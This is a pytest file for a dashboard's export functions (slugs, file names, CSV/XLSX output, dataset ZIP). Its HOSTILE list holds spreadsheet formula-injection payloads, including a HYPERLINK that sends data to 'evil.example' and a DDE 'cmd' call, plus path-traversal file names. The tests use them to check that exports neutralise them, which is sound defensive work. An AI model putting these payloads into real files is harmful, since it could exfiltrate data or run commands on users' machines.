"""Exports (dashboard.domain.exports), without Streamlit, on tiny frames and on the committed dataset."""

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest

from dashboard.domain import exports
from dashboard.core.data import read_dataset
from dashboard.core.filters import Filters, filter_options
from dashboard.core.paths import ROOT

DAY = date(2026, 11, 23)


@pytest.fixture(scope="module")
def ds():
    return read_dataset(ROOT)


def export(ds, filters=Filters(), lang="nl", view="kaart") -> exports.Export:
    return exports.Export(view, "Titel", "Bron: Lokaal Addendum Westhoek, 2023", filters, filter_options(ds), lang, DAY)


def test__slug__keeps_ascii_letters_digits_and_single_hyphens():
    assert exports.slug("Persona's — Zuid-West-Vlaanderen (2025)") == "persona-s-zuid-west-vlaanderen-2025"
    assert exports.slug("Ébène ²/../x") == "ebene-2-x"
    assert exports.slug("<script>") == "script"


def test__file_name__holds_view_filters_and_day(ds):
    name = exports.file_name(export(ds, Filters(("westhoek",), "saled", "mobiliteit")))
    assert name == "kaart_regio-westhoek_persona-saled_obstakel-mobiliteit_2026-11-23"


def test__file_name__without_filters_is_view_and_day(ds):
    assert exports.file_name(export(ds, view="persona_bars")) == "persona-bars_2026-11-23"


def test__file_name__in_english_names_the_filters_in_english(ds):
    name = exports.file_name(export(ds, Filters(("westhoek", "oostende")), lang="en"))
    assert name == "kaart_region-westhoek_region-oostende_2026-11-23"


def test__file_name__uses_only_safe_characters(ds):
    hostile = Filters(("../../etc", "a b"), "x/y", 'q"<>')
    name = exports.file_name(export(ds, hostile, view="../view name"))
    assert re.fullmatch(r"[a-z0-9_-]+", name)


def test__about__states_filters_source_and_date_in_the_language(ds):
    rows = dict(exports.about(export(ds, Filters(("westhoek",), "saled"), lang="en")))
    assert rows["Region"] == "Westhoek"
    assert rows["Persona"] == "Saled"
    assert rows["Obstacle"] == "None chosen"
    assert rows["Source"].startswith("Bron: Lokaal Addendum Westhoek")
    assert rows["Date of export"] == "2026-11-23"


FRAME = pd.DataFrame({"Regio": ["Westhoek", "#1 = eerst", "=SUM(A1)"], "Aantal": pd.array([3, None, 1], dtype="Int64"),
                      "Datum": [date(2023, 1, 1), date(2021, 1, 1), date(2023, 1, 1)]})
ABOUT = [("Titel", "Een tabel, met komma"), ("Bron", "Lokaal Addendum")]


def test__table_csv__reads_back_with_comment_lines_skipped():
    data = exports.table_csv(FRAME, ABOUT, "en")
    assert data.startswith("\ufeff".encode())  # Excel then reads UTF-8
    back = pd.read_csv(io.BytesIO(data), comment="#", encoding="utf-8-sig")
    assert list(back.columns) == list(FRAME.columns)
    assert back["Regio"].tolist() == ["Westhoek", "#1 = eerst", "'=SUM(A1)"]  # a '#' inside a cell is no comment
    assert back["Aantal"].isna().tolist() == [False, True, False]


def test__table_csv__dutch_uses_semicolons_and_decimal_commas():
    frame = pd.DataFrame({"Regio": ["Westhoek", "Oostende"], "Oppervlakte": [1163.2, 304.55]})
    data = exports.table_csv(frame, ABOUT, "nl")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[:3] == ['"Regio";"Oppervlakte"', '"Westhoek";1163,2', '"Oostende";304,55']
    back = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", comment="#", encoding="utf-8-sig")
    assert back["Oppervlakte"].tolist() == [1163.2, 304.55]


def test__table_csv__whole_numbers_without_decimals_and_missing_values_empty():
    lines = exports.table_csv(FRAME, ABOUT, "en").decode("utf-8-sig").splitlines()
    assert lines[2].split(",")[1] == "" and ".0" not in "\n".join(lines[:4])


def test__table_csv__header_first_then_label_value_lines_below():
    lines = exports.table_csv(FRAME, ABOUT, "nl").decode("utf-8-sig").splitlines()
    assert lines[0] == '"Regio";"Aantal";"Datum"'
    assert list(csv.reader(lines[-2:], delimiter=";")) == [["# Titel", "Een tabel, met komma"], ["# Bron", "Lokaal Addendum"]]
    assert lines[-3] == ""


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A2;"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tTAB", "\rCR"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test__table_csv__a_hostile_label_reads_back_as_text_and_a_number_stays_a_number():
    frame = pd.DataFrame({"Obstakel": HOSTILE, "Aantal": [-2, 3, -1, 0, 5, -7], "Aandeel": [-0.5, 1.5, 0, 2, 3, -4.25]})
    about_rows = [("Obstakel", "=1+1"), ("Bron", "Lokaal Addendum")]
    for lang, (separator, decimal) in exports.CSV_DIALECTS.items():
        text = exports.table_csv(frame, about_rows, lang).decode("utf-8-sig")
        rows = [row for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) if row]
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START) and not _is_number(cell, decimal)]
        assert [row[0] for row in rows[1:7]] == ["'" + label for label in HOSTILE]  # the text itself is kept
        assert [row[1] for row in rows[1:7]] == ["-2", "3", "-1", "0", "5", "-7"]  # a number stays a bare number
        assert rows[1][2] == f"-0{decimal}5" and ["# Obstakel", "'=1+1"] in rows


def _is_number(cell: str, decimal: str) -> bool:
    try:
        float(cell.replace(decimal, "."))
    except ValueError:
        return False
    return True


def test__dataset_zip__a_hostile_label_in_a_table_reads_back_as_text(tmp_path):
    (tmp_path / "data" / "reference").mkdir(parents=True)
    (tmp_path / "geo").mkdir()
    for text in ("README.md", "reference/PROVENANCE.md"):
        (tmp_path / "data" / text).write_text("x", encoding="utf-8")
    (tmp_path / "data" / "datapackage.json").write_text('{"resources": []}', encoding="utf-8")
    (tmp_path / "CITATION.cff").write_text("x", encoding="utf-8")
    pd.DataFrame({"obstacle_id": ["a", "b", "c", "d", "e", "f"], "label_nl": HOSTILE,
                  "rank": [-1, 2, 3, 4, 5, 6]}).to_parquet(tmp_path / "data" / "obstacles.parquet")
    archive = zipfile.ZipFile(io.BytesIO(exports.dataset_zip(tmp_path)))
    text = archive.read(f"{exports.ZIP_FOLDER}/data/csv/obstacles.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + label for label in HOSTILE]
    assert [row[2] for row in rows[1:]] == ["-1", "2", "3", "4", "5", "6"]


def test__table_xlsx__table_on_the_first_sheet_about_on_the_second():
    book = openpyxl.load_workbook(io.BytesIO(exports.table_xlsx(FRAME, ABOUT, "nl")))
    table, about = book.worksheets
    rows = list(table.iter_rows(values_only=True))
    assert rows[0] == ("Regio", "Aantal", "Datum")
    assert [r[0] for r in rows[1:]] == FRAME["Regio"].tolist()
    assert rows[2][1] is None
    assert rows[1][2].date() == date(2023, 1, 1)
    assert list(about.iter_rows(values_only=True)) == ABOUT
    assert about.title == "Bron en filters"


def test__table_xlsx__text_starting_with_equals_is_no_formula():
    book = openpyxl.load_workbook(io.BytesIO(exports.table_xlsx(FRAME, ABOUT, "nl")))
    cell = book.worksheets[0]["A4"]
    assert cell.value == "=SUM(A1)" and cell.data_type == "s"


def test__dataset_zip__holds_every_table_as_parquet_and_csv_and_the_dictionary():
    archive = zipfile.ZipFile(io.BytesIO(exports.dataset_zip(ROOT)))
    names = set(archive.namelist())
    folder = exports.ZIP_FOLDER
    for path in (ROOT / "data").glob("*.parquet"):
        assert f"{folder}/data/{path.name}" in names
        frame = pd.read_csv(archive.open(f"{folder}/data/csv/{path.stem}.csv"), encoding="utf-8-sig", dtype=str)
        assert len(frame) == len(pd.read_parquet(path))
    for path in (ROOT / "geo").glob("*.parquet"):
        assert archive.read(f"{folder}/geo/{path.name}") == path.read_bytes()
    assert archive.read(f"{folder}/data/README.md") == (ROOT / "data" / "README.md").read_bytes()


def test__dataset_zip__is_the_same_bytes_for_the_same_files():
    assert exports.dataset_zip(ROOT) == exports.dataset_zip(ROOT)
